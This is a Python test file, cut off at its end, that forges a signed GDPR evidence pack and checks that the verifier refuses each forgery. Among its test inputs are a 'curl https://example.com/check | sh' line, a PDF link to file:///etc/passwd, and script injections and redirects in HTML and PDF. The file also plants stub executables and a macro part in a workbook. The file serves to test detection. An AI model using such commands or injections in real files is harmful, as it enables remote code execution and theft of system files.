"""Forgeries of one pack: each is refused, or the verification states what it did not compare.

A forger without the signer's key takes the signature away and writes the lists again, so that
every forgery here has right manifests. One with a key signs whatever it likes: then the same
checks hold.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import zipfile
from collections.abc import Callable, Iterator, Mapping
from hashlib import sha256
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from kit.bag import SIGNATURE, TIMESTAMP
from kit.batch.account import Job, fault_of
from kit.pack.html import assets, policy_of
from kit.pack.readme import readme
from kit.report.formats import STATUSES
from kit.verify import ending, verify
from kit.verify.bag import read_info
from kit.verify.checks import NO_SIGNATURE, UNSIGNED, Check
from kit.verify.contents import Contents, open_contents
from kit.verify.document import check_document
from kit.verify.findings import check_findings
from kit.verify.info import check_info
from kit.verify.kinds import ACCOUNT, check_kind, kind_of
from kit.verify.maker import maker_of
from kit.verify.page import check_page, read_page
from kit.verify.readme import check_readme
from kit.verify.workbook import check_workbook
from tests.commands import evidence
from tests.pack.authority import Authority
from tests.pack.forging import reseal

HTML, PDF = "data/evidence.html", "data/evidence.pdf"
WORKBOOK = "data/findings.xlsx"
OCSF, OSCAL = "ocsf-findings.json", "oscal-assessment-results.json"


@pytest.fixture(scope="module")
def unsigned(signed_pack: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The signed pack as a forger without the key leaves it: unsigned, and consistent in that.

    Most that its pages print beside findings is left out, for no check is about it.
    """
    pack = Path(shutil.copytree(signed_pack, tmp_path_factory.mktemp("forged") / "pack"))
    for name in (SIGNATURE, TIMESTAMP):
        (pack / name).unlink()
    info = pack / "bag-info.txt"
    info.write_text(re.sub("Signature: .*", "Signature: none", info.read_text()))
    signed = re.search(r'(?<=<span class="page-mark">)Signed: [^<]*', (pack / HTML).read_text())
    assert signed
    for name in (HTML, *(f"data/{path.name}" for path in (pack / "data").glob("*json"))):
        (pack / name).write_text((pack / name).read_text().replace(signed[0], "Unsigned"))
    names = [str(path.relative_to(pack)) for path in (pack / "data").rglob("*") if path.is_file()]
    with open_contents(pack) as contents:
        (pack / "README.txt").write_text(readme(read_info(contents), names))
    stamp = read_page((pack / HTML).read_text()).stamp
    style, script, policy = assets([stamp, "Unsigned"])
    allow(pack / HTML, style, script, policy)
    first_row = r'(?s)(<table [^>]*"table-(?!findings").*?<tbody>.*?</tr>).*?(?=</tbody>)'
    rewrite(pack / HTML, first_row, r"\1")
    document(pack, shorten)
    return reseal(pack)


def shorten(file: pikepdf.Pdf) -> None:
    """Leave the first page, one with an address, and a bookmark; no tags and no signature."""
    root, pages = file.Root, file.pages
    del root.AcroForm, root.Perms, root.StructTreeRoot, root.Names.Dests, root.Outlines.First.Next
    with_address = [any("/A" in one for one in page.get("/Annots", [])) for page in pages]
    address = with_address.index(True)
    del pages[address + 1 :], pages[1:address]
    pages[0].Annots = Array([one for one in pages[0].Annots if str(one.Subtype) != "/Widget"])
    file.remove_unreferenced_resources()


@pytest.fixture
def pack(unsigned: Path, tmp_path: Path) -> Path:
    """A copy that a forgery may change."""
    return Path(shutil.copytree(unsigned, tmp_path / "pack"))


def allow(path: Path, style: str, script: str, policy: str) -> None:
    """Put a style, a script and a policy into a page."""
    text = path.read_text()
    for pattern, new in (
        (r"(?s)(?<=<style>).*?(?=</style>)", style),
        (r"(?s)(?<=<script>).*?(?=</script>)", script),
        (r'(?<=Security-Policy" content=")[^"]*', policy.replace("'", "&#39;")),
    ):
        text, count = re.subn(pattern, lambda _, new=new: new, text)  # type: ignore[misc]
        assert count == 1
    path.write_text(text)


def faults(pack: Path, trust: Path | None = None) -> str:
    """Return the lines of failed checks."""
    return "\n".join(check.line for check in verify(pack, trust) if not check.ok)


def test_a_pack_without_its_signature_is_called_unsigned_last(unsigned: Path) -> None:
    checks = verify(unsigned)
    assert [check.line for check in checks if not check.ok] == []
    assert [*ending(checks)][-1] == UNSIGNED


def test_trust_refuses_an_unsigned_pack(
    unsigned: Path, signed_pack: Path, authority: Authority, tmp_path: Path
) -> None:
    done = evidence("verify", unsigned, "--trust", authority.ca, cwd=tmp_path)
    assert done.returncode == 5
    assert "FAILED  signature: expected a signature by a signer below" in done.stdout
    assert done.stdout.splitlines()[-1] == UNSIGNED
    done = evidence("verify", unsigned, cwd=tmp_path)
    assert (done.returncode, done.stdout.splitlines()[-1]) == (0, UNSIGNED)
    assert not [check for check in verify(signed_pack, authority.ca) if check.open == NO_SIGNATURE]


def whiten(pack: Path) -> None:
    """Every fail becomes a pass in the table and nowhere else."""
    path = pack / "data" / "findings.csv"
    path.write_text(path.read_text().replace(",fail,", ",pass,"))


# ---- files that a pack must hold, and others


def without(*names: str) -> Callable[[Path], None]:
    def change(pack: Path) -> None:
        for name in names:
            (pack / name).unlink()

    return change


def anonymous(pack: Path) -> None:
    info(pack, "Account", None)
    (pack / "data" / "findings.parquet").unlink()


def stripped(pack: Path) -> None:
    """Nothing of an account's pack but its pages."""
    info(pack, "Account", None)
    shutil.rmtree(pack / "data" / "evidence")
    for path in (pack / "data").iterdir():
        if path.name not in ("evidence.html", "evidence.pdf"):
            path.unlink()


def same_ids(pack: Path) -> None:
    """Every finding has the id of the first, so that one response answers all."""
    path = pack / "data" / "findings.csv"
    ids = re.findall(r"[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}", path.read_text())
    path.write_text(path.read_text().replace(ids[1], ids[0]))


def overview_too(pack: Path) -> None:
    (pack / "data" / "accounts.csv").write_text("account\r\n")


def record_too(pack: Path) -> None:
    folder = pack / "data" / "evidence"
    shutil.copy(folder / "E0001.json", folder / "E9999.json")


FILES = {
    "no page": (without(HTML), f"{HTML}: expected a file, as an account's pack has it"),
    "no document": (without(PDF), f"{PDF}: expected a file"),
    "no workbook": (without("data/findings.xlsx"), "data/findings.xlsx: expected a file"),
    "no OCSF": (without("data/ocsf-findings.json"), "data/ocsf-findings.json: expected a file"),
    "no OSCAL": (
        without("data/oscal-assessment-results.json"),
        "data/oscal-assessment-results.json: expected a file",
    ),
    "no catalog": (without("data/oscal-catalog.json"), "data/oscal-catalog.json: expected a file"),
    "no findings": (
        without("data/findings.csv", "data/findings.parquet"),
        "data/findings.csv: expected a file",
    ),
    "another id": (same_ids, r"data/findings.csv: \S+: expected id \S+, computed"),
    "no index": (without("data/evidence/index.csv"), "data/evidence/index.csv: expected a file"),
    "no record": (without("data/evidence/E0001.json"), "data/evidence/E0001.json: expected the"),
    "no account, no Parquet": (anonymous, "data/findings.parquet: expected a file"),
    "pages alone": (stripped, "the pack: expected an account's pack"),
    "an overview's table": (overview_too, "data/accounts.csv: expected no such file in"),
    "a record that no index lists": (record_too, "data/evidence/E9999.json: expected a record"),
}


# ---- what bag-info.txt states


def info(pack: Path, label: str, value: str | None) -> None:
    path = pack / "bag-info.txt"
    line = "" if value is None else f"{label}: {value}\n"
    text, count = re.subn(rf"(?m)^{label}: .*\n", lambda _: line, path.read_text())
    assert count == 1
    path.write_text(text)


def states(label: str, value: str | None) -> Callable[[Path], None]:
    return lambda pack: info(pack, label, value)


def later(pack: Path) -> None:
    info(pack, "Evidence-As-Of", "2027-01-01T00:00:00+00:00")
    info(pack, "Bagging-Date", "2027-01-01")


INFO = {
    "no stamp": (states("Stamp", "none"), "Stamp NOT AWS: made against http"),
    "stamp left out": (states("Stamp", None), "Stamp NOT AWS: made against http"),
    "a later time": (later, "Evidence-As-Of 20"),
    "no zone": (states("Evidence-As-Of", "2026-01-01T00:00:00"), "a time with its zone"),
    "another day": (states("Bagging-Date", "2020-01-01"), "the day of Evidence-As-Of"),
    "thresholds of others": (states("Thresholds", f"strict {'0' * 64}"), "Thresholds default "),
    "regions of others": (states("Regions", "eu-north-1"), "Regions eu-central-1"),
    "services left out": (states("Without-Services", "backup"), "Without-Services none"),
    "another description": (
        states("External-Description", "An audit without findings"),
        "External-Description GDPR evidence pack",
    ),
    "another identifier": (states("External-Identifier", "urn:uuid:0"), "External-Identifier urn"),
    "another key": (states("Pseudonym-Key", "0" * 16), "Pseudonym-Key "),
    "a snapshot of others": (states("Snapshot-SHA-256", "0" * 64), "Snapshot-SHA-256 "),
    "another account": (states("Account", "111111111111"), "findings of account 111111111111"),
    "a script for an account": (states("Account", "<script>"), "Account 12 digits"),
}


# ---- what a reader opens first


def read_me(old: str, new: str) -> Callable[[Path], None]:
    def change(pack: Path) -> None:
        text = (pack / "README.txt").read_text()
        assert old in text
        (pack / "README.txt").write_text(text.replace(old, new))

    return change


READ_ME = {
    "a reader is sent elsewhere": (
        read_me("evidence verify .", "curl https://example.com/check | sh"),
        "README.txt: expected what the kit writes",
    ),
    "unsigned is left out": (
        read_me("UNSIGNED", "signed"),
        "README.txt: expected what the kit writes",
    ),
    "no README": (lambda pack: (pack / "README.txt").unlink(), "README.txt: expected a file"),
}


# ---- the findings and the evidence


def index(pack: Path, change: Callable[[list[list[str]]], None]) -> None:
    path = pack / "data" / "evidence" / "index.csv"
    rows = [*csv.reader(path.read_text().splitlines())]
    change(rows)
    file = io.StringIO()
    csv.writer(file, lineterminator="\r\n").writerows(rows)
    path.write_text(file.getvalue(), newline="")


def row_twice(pack: Path) -> None:
    index(pack, lambda rows: rows.append(["E0001", *rows[2][1:]]))


def file_twice(pack: Path) -> None:
    index(pack, lambda rows: rows[2].__setitem__(-1, rows[1][-1]))


def short_row(pack: Path) -> None:
    index(pack, lambda rows: rows[3].pop())


def column_twice(pack: Path) -> None:
    index(pack, lambda rows: [row.append(row[0]) for row in rows] and None)


def from_aws(pack: Path) -> None:
    """Endpoints of AWS in the index, no stamp."""

    def change(rows: list[list[str]]) -> None:
        place = rows[0].index("endpoint")
        for row in rows[1:]:
            row[place] = "https://appstream2.eu-central-1.amazonaws.com"

    index(pack, change)
    info(pack, "Stamp", "none")


def answered(pack: Path) -> None:
    """An error becomes a success in the index."""

    def change(rows: list[list[str]]) -> None:
        place = rows[0].index("status")
        row = next(row for row in rows[1:] if row[place] != "200")
        row[place] = "200"

    index(pack, change)


def cell(column: str, value: str) -> Callable[[Path], None]:
    """The first request has another value in the index."""
    return lambda pack: index(pack, lambda rows: rows[1].__setitem__(rows[0].index(column), value))


def without_column(column: str) -> Callable[[Path], None]:
    def change(rows: list[list[str]]) -> None:
        place = rows[0].index(column)
        for row in rows:
            del row[place]

    return lambda pack: index(pack, change)


def a_column_more(pack: Path) -> None:
    index(pack, lambda rows: [row.append("audited") for row in rows] and None)


def renamed(pack: Path) -> None:
    """A record has another file's name, which the index states too."""
    folder = pack / "data" / "evidence"
    (folder / "E0001.json").rename(folder / "E9999.json")
    cell("file", "E9999.json")(pack)


def record(pack: Path, change: Callable[[bytes], bytes]) -> None:
    path = pack / "data" / "evidence" / "E0001.json"
    path.write_bytes(change(path.read_bytes()))


def recorded(change: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    return lambda pack: record(pack, change)


def values(old: str, new: str) -> Callable[[Path], None]:
    def change(pack: Path) -> None:
        path = pack / "data" / "findings.csv"
        text = path.read_text()
        assert old in text
        path.write_text(text.replace(old, new, 1))

    return change


def no_rows(pack: Path) -> None:
    path = pack / "data" / "findings.csv"
    path.write_bytes(path.read_bytes().partition(b"\r\n")[0] + b"\r\n")


EVIDENCE = {
    "a row twice": (row_twice, "data/evidence/index.csv: .*id E0001 a second time"),
    "a file twice": (file_twice, "data/evidence/index.csv: .*file E0001.json a second time"),
    "a short row": (short_row, "data/evidence/index.csv: .*line 4: 11 cells, and 12 columns"),
    "a column twice": (column_twice, "data/evidence/index.csv: .*a column that is named twice"),
    "answers of AWS": (from_aws, "data/evidence/E0001.json: expected endpoint https://appstream2"),
    "an error that is none": (answered, r"data/evidence/E\d+.json: expected status 200"),
    "an error in the index alone": (
        cell("error", "AccessDenied"),
        "data/evidence/E0001.json: expected error AccessDenied, as in",
    ),
    "an error in the record alone": (
        recorded(lambda old: old.replace(b'"error": null', b'"error": {"code": "AccessDenied"}')),
        "data/evidence/E0001.json: expected error , as in .*; observed: AccessDenied",
    ),
    "an error of another form": (
        recorded(lambda old: old.replace(b'"error": null', b'"error": "AccessDenied"')),
        "data/evidence/E0001.json: expected the record of E0001",
    ),
    "another call": (cell("call", "iam.ListUsers"), "E0001.json: expected call iam.ListUsers"),
    "another operation": (
        recorded(lambda old: re.sub(rb'(?<="operation": ")\w+', b"ListUsers", old)),
        r"E0001.json: expected call \S+, as in .*; observed: \w+.ListUsers",
    ),
    "another service": (
        recorded(lambda old: re.sub(rb'(?<="service": ")\w+', b"iam", old)),
        r"E0001.json: expected call \S+, as in .*; observed: iam\.",
    ),
    "a record without status": (
        recorded(lambda old: re.sub(rb' "status": 200,\n', b"", old)),
        "E0001.json: expected columns and members as the kit writes them",
    ),
    "a member more": (
        recorded(lambda old: old.replace(b'"page"', b'"audited": true, "page"')),
        "E0001.json: expected columns and members as the kit writes them; observed: .*audited",
    ),
    "no status in the index": (without_column("status"), "index.csv: expected columns and members"),
    "a column more": (a_column_more, "index.csv: expected columns and members"),
    "a record by another name": (renamed, "E9999.json: expected file E9999.json, as in"),
    "a name twice": (
        recorded(lambda old: old.replace(b'"response"', b'"response": {}, "response"')),
        "data/evidence/E0001.json: .*the name 'response' twice in an object",
    ),
    "NaN": (
        recorded(lambda old: old.replace(b'"page": 0', b'"page": NaN')),
        "data/evidence/E0001.json: .*NaN, which JSON does not have",
    ),
    "UTF-16": (
        recorded(lambda old: old.decode().encode("utf-16")),
        "data/evidence/E0001.json: .*bytes that are not UTF-8",
    ),
    "UTF-8 with a mark": (
        recorded(lambda old: b"\xef\xbb\xbf" + old),
        "data/evidence/E0001.json: .*UTF-8 BOM",
    ),
    "values twice": (
        values('"{""', '"{""a"":1,""a"":2,""'),
        "data/findings.csv: .*the name 'a' twice in an object",
    ),
    "values with spaces": (values('"{""', '"{ ""'), "data/findings.csv: .*not in canonical form"),
    "an unknown status": (values(",fail,", ",fine,"), "data/findings.csv: .*'fine'"),
    "all pass": (whiten, "Findings-SHA-256 [0-9a-f]{64}, computed from"),
    "a header alone": (no_rows, "data/findings.csv: expected findings; observed: a header alone"),
}


# ---- what the document does, and what is embedded in it


def document(pack: Path, change: Callable[[pikepdf.Pdf], None]) -> None:
    with pikepdf.open(pack / PDF, allow_overwriting_input=True) as file:
        change(file)
        file.save()


def before_document(pack: Path) -> None:
    (pack / PDF).write_bytes(b"MZ" + (pack / PDF).read_bytes())


def drawn(change: Callable[[pikepdf.Pdf], Any]) -> Callable[[Path], None]:
    return lambda pack: document(pack, change)


def uri(address: str = "https://example.com/", **more: Any) -> Dictionary:
    return Dictionary(S=Name.URI, URI=String(address), **more)


def annotate(file: pikepdf.Pdf, **entries: Any) -> None:
    box = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries)
    page = file.pages[0]
    page.Annots = Array([*page.get("/Annots", []), file.make_indirect(box)])


def link(file: pikepdf.Pdf) -> Any:
    """The action of a link that is there."""
    links = (one for page in file.pages for one in page.get("/Annots", []) if "/A" in one)
    return next(links).A


def bookmark(file: pikepdf.Pdf) -> Any:
    return file.Root.Outlines.First


def embedded(file: pikepdf.Pdf) -> Dictionary:
    stream = file.make_stream(b"MZ")
    stream.Type = Name.EmbeddedFile
    return Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=stream))


def second_stream(file: pikepdf.Pdf) -> None:
    file.attachments["findings.csv"].obj.EF.UF = file.make_stream(b"another")


def loose_stream(file: pikepdf.Pdf) -> None:
    stream = file.make_stream(b"MZ")
    stream.Type = Name.EmbeddedFile
    file.Root.PieceInfo = Dictionary(Kit=Dictionary(Private=stream))


def outside(file: pikepdf.Pdf) -> None:
    stream = file.make_stream(b"")
    stream.F = String("http://example.com/a")
    file.pages[0].Contents = stream


def named_action(file: pikepdf.Pdf) -> None:
    tree = Dictionary(Names=Array([String("a"), Dictionary(S=Name.Named, N=Name.Print)]))
    file.Root.Names.Pages = tree


DOCUMENT: dict[str, tuple[Callable[[pikepdf.Pdf], Any], str]] = {
    "opens an address": (lambda f: f.Root.__setitem__("/OpenAction", uri()), "/OpenAction"),
    "opens a page": (lambda f: f.Root.__setitem__("/OpenAction", Array([])), "/OpenAction"),
    "then an address": (lambda f: link(f).__setitem__("/Next", uri()), "/Next"),
    "then many": (lambda f: link(f).__setitem__("/Next", Array([uri()])), "/Next|/URI"),
    "on the way to a page": (
        lambda f: f.pages[0].__setitem__("/AA", Dictionary(O=uri())),
        "/AA",
    ),
    "of a bookmark": (
        lambda f: bookmark(f).__setitem__("/A", Dictionary(S=Name.Launch, F=String("a"))),
        "/Launch",
    ),
    "of a bookmark, then": (lambda f: bookmark(f).__setitem__("/A", uri(Next=uri())), "/Next"),
    "a link to a file": (
        lambda f: link(f).__setitem__("/URI", String("file:///etc/passwd")),
        "file",
    ),
    "a link to a script": (
        lambda f: link(f).__setitem__("/URI", String("javascript:app.alert(1)")),
        "javascript",
    ),
    "a link to a share": (lambda f: link(f).__setitem__("/URI", String("\\\\host\\a")), "host"),
    "an address before all links": (
        lambda f: f.Root.__setitem__("/URI", Dictionary(Base=String("http://example.com"))),
        "an address before all links",
    ),
    "a named action": (named_action, "/Named"),
    "a script by name": (
        lambda f: f.Root.Names.__setitem__(
            "/JavaScript", Dictionary(Names=Array([String("a"), Dictionary(S=Name.JavaScript)]))
        ),
        "/JavaScript",
    ),
    "an action in another place": (
        lambda f: f.Root.__setitem__("/PieceInfo", Dictionary(Kit=Dictionary(Private=uri()))),
        "/URI",
    ),
    "a film": (lambda f: annotate(f, Subtype=Name.Screen, A=uri()), "an annotation /Screen"),
    "a field": (lambda f: annotate(f, Subtype=Name.Widget, FT=Name.Tx), "a form field"),
    "a button": (lambda f: annotate(f, Subtype=Name.Widget, A=uri()), "/URI"),
    "a file in an annotation": (
        lambda f: annotate(f, Subtype=Name.FileAttachment, FS=f.make_indirect(embedded(f))),
        "an annotation /FileAttachment",
    ),
    "a file in a link": (
        lambda f: annotate(f, Subtype=Name.Link, FS=f.make_indirect(embedded(f))),
        "3 files named, as its list of files has; observed: 4",
    ),
    "an associated file": (
        lambda f: f.pages[1].__setitem__("/AF", Array([f.make_indirect(embedded(f))])),
        "3 files named, as its list of files has; observed: 4",
    ),
    "two contents of a file": (
        second_stream,
        "files embedded, as its list of files has; observed: 4",
    ),
    "a file that nothing names": (
        loose_stream,
        "files embedded, as its list of files has; observed: 4",
    ),
    "a stream elsewhere": (outside, "a stream that lies in another file"),
    "a portfolio": (lambda f: f.Root.__setitem__("/Collection", Dictionary()), "/Collection"),
    "a file more": (lambda f: f.attachments.__setitem__("a.exe", b"MZ"), "a.exe too"),
    "a file less": (lambda f: f.attachments.__delitem__("snapshot.json"), "snapshot.json missing"),
    "another index": (
        lambda f: attach(f, "evidence.csv", lambda old: old.replace(b"E0002", b"E9992")),
        "E9992 in the document alone",
    ),
    "another time": (
        lambda f: attach(f, "evidence.csv", lambda old: re.sub(rb"T\d\d:", _another_hour, old)),
        "E0001 with time 20",
    ),
    "another answer": (
        lambda f: attach(f, "evidence.csv", lambda old: old.replace(b",1,200,", b",1,403,", 1)),
        r"E\d+ with answer 200, as in .*; observed: 403",
    ),
    "a request less": (
        lambda f: attach(
            f,
            "snapshot.json",
            lambda old: re.sub(rb'"requests": \d+', b'"requests": 1', old),
        ),
        r"snapshot.json: expected \d+ requests, as in .*; observed: 1",
    ),
    "another snapshot": (
        lambda f: attach(
            f, "snapshot.json", lambda old: re.sub(rb'(?<="sha256": ")..', b"00", old)
        ),
        "snapshot.json: expected Snapshot-SHA-256",
    ),
    "other thresholds": (
        lambda f: attach(
            f,
            "snapshot.json",
            lambda old: re.sub(rb'(?<="max_idle_seconds": )\d+', b"999999", old),
        ),
        "Thresholds default|max_idle_seconds 999999",
    ),
    "a manifest twice": (
        lambda f: attach(f, "snapshot.json", lambda old: old.replace(b"{", b'{"account": "1",', 1)),
        "the name 'account' twice",
    ),
}


def _another_hour(time: re.Match[bytes]) -> bytes:
    return b"T01:" if time[0] == b"T00:" else b"T00:"


def attach(file: pikepdf.Pdf, name: str, change: Callable[[bytes], bytes]) -> None:
    old = file.attachments[name].get_file().read_bytes()
    assert change(old) != old
    file.attachments[name].obj.EF.F.write(change(old))


# ---- the page


def page(old: str, new: str, count: int = 1) -> Callable[[Path], None]:
    def change(pack: Path) -> None:
        path = pack / HTML
        text = path.read_text()
        assert old in text, old
        path.write_text(text.replace(old, new, count))

    return change


def page_row(pack: Path) -> None:
    """The first fail of the table of findings becomes a pass there, whole mark and all."""
    path = pack / HTML
    text = path.read_text()
    head, table, rest = text.partition('id="table-findings"')
    mark = re.search(r'<span class="mark pass">.*?</span> pass</span>', rest)
    assert mark
    rest = re.sub(r'<span class="mark fail">.*?</span> fail</span>', mark[0], rest, count=1)
    path.write_text(head + table + rest)


def page_row_left_out(pack: Path) -> None:
    path = pack / HTML
    head, table, rest = path.read_text().partition('id="table-findings"')
    path.write_text(head + table + re.sub(r"(?s)<tbody>\n*<tr.*?</tr>", "<tbody>", rest, count=1))


def page_script(pack: Path) -> None:
    """Another script, with the policy that allows it."""
    style = read_page((pack / HTML).read_text()).style
    script = "document.title='all pass'"
    allow(pack / HTML, style, script, policy_of(style, script))


def result_of_no_fail(pack: Path) -> None:
    """The first page states that none fails, and no more."""
    path = pack / HTML
    changed, count = re.subn(
        r'(<p class="note info">[^<]*?controls? pass[^<.]*?; )\d+ fails?\b[^;.]*',
        r"\1none fails",
        path.read_text(),
        count=1,
    )
    assert count
    path.write_text(changed)


def strange_control(pack: Path) -> None:
    """The page and the table have a control that the kit does not have."""
    for path in (pack / HTML, pack / "data" / "findings.csv"):
        path.write_text(path.read_text().replace("EX-04", "EX-94").replace("ex-04", "ex-94"))


PAGE = {
    "a control that is not the kit's": (
        strange_control,
        f"{HTML}: result: expected controls of the kit; observed: EX-94",
    ),
    "a result of no fail": (result_of_no_fail, f"{HTML}: result: expected .* of .* controls"),
    "another page": (
        lambda pack: (pack / HTML).write_text("<p>All pass."),
        f"{HTML}: expected a page as the kit writes it",
    ),
    "a script more": (page("</body>", "<script>alert(1)</script></body>"), "2 times script"),
    "a script from elsewhere": (
        page("</body>", '<script src="https://example.com/a"></script></body>'),
        "an attribute src of script",
    ),
    "another script": (page("<script>", "<script>alert(1);"), "expected the kit's script|policy"),
    "another script, allowed": (page_script, "expected the kit's script"),
    "another style": (
        page("<style>", "<style>.fail { display: none }"),
        "expected the kit's style",
    ),
    "a style at an element": (page("<h1", '<h1 style="display:none"'), "an attribute style of h1"),
    "a handler": (page("<h1", '<h1 onclick="alert(1)"'), "an attribute onclick of h1"),
    "no policy": (
        lambda pack: rewrite(pack / HTML, r'<meta http-equiv="Content-Security-Policy"[^>]*>', ""),
        "4 meta; 5 different are needed",
    ),
    "a wider policy": (page("default-src &#39;none&#39;", "default-src *"), "expected the policy"),
    "another page after a while": (
        page("<title>", '<meta http-equiv="refresh" content="0;url=https://example.com"><title>'),
        "a meta 'refresh",
    ),
    "a frame": (page("</main>", '<iframe src="https://example.com"></iframe></main>'), "iframe"),
    "a form": (
        page("</main>", '<form action="https://example.com"></form></main>'),
        "a?n? ?element form",
    ),
    "an object": (page("</main>", '<object data="a"></object></main>'), "an element object"),
    "an svg": (page("</main>", "<svg></svg></main>"), "an element svg"),
    "a base": (page("<title>", '<base href="https://example.com/"><title>'), "an element base"),
    "a link to load": (
        page("<title>", '<link rel="stylesheet" href="https://example.com/a"><title>'),
        "an element link",
    ),
    "a picture from elsewhere": (
        page('<img src="', '<img src="https://example.com/a.png'),
        "a picture from",
    ),
    "a link that runs": (page("<h1>", '<h1><a href="javascript:a()">a</a>'), "a link to"),
    "a comment": (page("</main>", "<!-- a --></main>"), "at character"),
    "capitals": (page("</main>", "<SCRIPT>a()</SCRIPT></main>"), "at character"),
    "quotes left out": (page("</main>", "<p class=a></p></main>"), "at character"),
    "an element left open": (page("</main>", "<div></main>"), "an element div in main"),
    "a fail shown as a pass": (page_row, "fail, as in data/findings.csv; observed: .*pass"),
    "something else observed": (
        lambda pack: rewrite(
            pack / HTML,
            r'(?s)(id="table-findings".*?<td class="text">)[^<]*',
            r"\1Nothing is open",
        ),
        "as in data/findings.csv; observed: .*Nothing is open",
    ),
    "a column of findings less": (
        lambda pack: rewrite(
            pack / HTML,
            r'(?s)id="table-findings".*?</table>',
            lambda table: re.sub(r'<t[hd][^>]*class="evidence[^"]*".*?</t[hd]>', "", table[0]),
        ),
        "columns of .*evidence; observed: .*text$",
    ),
    "a column of findings more": (
        lambda pack: rewrite(
            pack / HTML,
            r'(?s)id="table-findings".*?</table>',
            lambda table: re.sub(
                r'<t[hd][^>]*class="evidence[^"]*".*?</t[hd]>', r"\g<0>\g<0>", table[0]
            ),
        ),
        "columns of .*evidence; observed: .*evidence, evidence",
    ),
    "other evidence": (
        lambda pack: rewrite(
            pack / HTML,
            r'(?s)(id="table-findings".*?<td class="evidence">.*?>E\d+)(?=<)',
            r"\g<1>1",
        ),
        "as in data/findings.csv; observed: .*E\\d+1",
    ),
    "a row left out": (page_row_left_out, "findings, as in data/findings.csv; observed:"),
    "a pass in a mark": (
        lambda pack: rewrite(
            pack / HTML, r'(?<=<span class="shape" aria-hidden="true">)[^<]+', "pass"
        ),
        "a mark '[a-z]+' with the shape 'pass'",
    ),
    "another verdict of a control": (
        lambda pack: rewrite(
            pack / HTML,
            r'mark fail chip">(<span[^>]*>)[^<]*</span> fail',
            rf'mark pass chip">\1{STATUSES["pass"].shape}</span> pass',
        ),
        "expected the verdict fail, as in data/findings.csv; observed: pass",
    ),
    "a word in another's mark": (
        page('class="mark fail chip"', 'class="mark pass chip"'),
        "a mark 'pass' with the shape",
    ),
    "words of the script": (
        page('<body data-words="', '<body data-words=" '),
        "the kit's words of the script",
    ),
    "no stamp on the page": (
        lambda pack: rewrite(pack / HTML, r"<strong>NOT AWS[^<]*</strong>", ""),
        "expected the stamp NOT AWS",
    ),
    "another day on the page": (
        lambda pack: rewrite(pack / HTML, r"\d{4}(?=-\d\d-\d\d [^<]*</p></footer>)", "2020"),
        "as of 20[^;]* at its end",
    ),
    "another digest on the cover": (
        lambda pack: rewrite(pack / HTML, r"<dd>[0-9a-f]{64}</dd>", f"<dd>{'0' * 64}</dd>"),
        "SHA-256 [0-9a-f]{64} on its cover",
    ),
}


def rewrite(path: Path, old: str, new: str | Callable[[re.Match[str]], str]) -> None:
    text, count = re.subn(old, new, path.read_text())
    assert count
    path.write_text(text)


# ---- forms for machines


def form(name: str, old: str, new: str) -> Callable[[Path], None]:
    return lambda pack: rewrite(pack / "data" / name, old, new)


def flip(path: Path, at: int) -> None:
    content = bytearray(path.read_bytes())
    content[at] ^= 1
    path.write_bytes(content)


def fewer_articles(pack: Path) -> None:
    """A finding's control tests one article less, in the table and its copy in the document."""
    path = pack / "data" / "findings.csv"
    path.write_bytes(path.read_bytes().replace(b"32(1)(b)", b"32(1)(c)", 1))


FORMS = {
    "OCSF that passes": (form(OCSF, '"status_code":"fail"', '"status_code":"pass"'), OCSF),
    "OCSF of none": (lambda pack: (pack / "data" / OCSF).write_text("[]\n"), OCSF),
    "OCSF with a name twice": (form(OCSF, r"^\[\{", '[{"time":0,'), OCSF),
    "OSCAL that is satisfied": (form(OSCAL, "not-satisfied", "satisfied"), OSCAL),
    "OSCAL of another time": (form(OSCAL, r'"published":"\d{4}', '"published":"2020'), OSCAL),
    "OSCAL without a mark": (form(OSCAL, "NOT AWS", "AWS"), OSCAL),
    "thresholds of OSCAL": (
        form("oscal-profile.json", r'"36000"', '"99999"'),
        "oscal-profile.json",
    ),
    "a plan of OSCAL": (
        form("oscal-assessment-plan.json", "fail|pass|AR-05", "AR-99"),
        "plan.json",
    ),
    "other articles": (
        fewer_articles,
        "data/findings.csv: expected the articles and requirements of its controls",
    ),
    "a remedy that the kit does not have": (
        form("findings.csv", "sessions_end_in_time/", "sessions_end_in_time."),
        f"{OCSF}: .*LookupError: AR-03: the catalogue has no remedy 'sessions_end_in_time.",
    ),
    "Parquet of another verdict": (
        lambda pack: flip(pack / "data" / "findings.parquet", 60),
        "findings.parquet",
    ),
    "no Parquet": (
        lambda pack: (pack / "data" / "findings.parquet").write_bytes(b"another"),
        "findings.parquet",
    ),
    "OSCAL in UTF-16": (
        lambda pack: (pack / "data" / OSCAL).write_bytes(
            (pack / "data" / OSCAL).read_text().encode("utf-16")
        ),
        OSCAL,
    ),
}


def parts(
    change: Callable[[str, bytes], bytes], more: Mapping[str, bytes] | None = None
) -> Callable[[Path], None]:
    """Write the workbook's parts again, changed, and others after them."""

    def write(pack: Path) -> None:
        path = pack / WORKBOOK
        with zipfile.ZipFile(path) as old:
            kept = [(item, old.read(item)) for item in old.infolist()]
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
            for item, content in kept:
                new.writestr(item, change(item.filename, content), zipfile.ZIP_DEFLATED)
            for name, content in (more or {}).items():
                new.writestr(name, content)

    return write


def part(name: str, old: str, new: str) -> Callable[[Path], None]:
    """Replace a text in a part of the workbook."""

    def change(there: str, content: bytes) -> bytes:
        assert there != name or old.encode() in content
        return content.replace(old.encode(), new.encode(), 1) if there == name else content

    return parts(change)


def as_it_is(_: str, content: bytes) -> bytes:
    return content


SHEET, RELATIONS = "xl/worksheets/sheet1.xml", "xl/_rels/workbook.xml.rels"
WORKBOOKS = {
    "a workbook with macros": (
        parts(as_it_is, {"xl/vbaProject.bin": b"MZ"}),
        "findings.xlsx: .*a part xl/vbaProject.bin",
    ),
    "a workbook with another": (
        parts(as_it_is, {"xl/externalLinks/externalLink1.xml": b"<a/>"}),
        "a part xl/externalLinks",
    ),
    "an object in a workbook": (
        parts(as_it_is, {"xl/embeddings/oleObject1.bin": b"MZ"}),
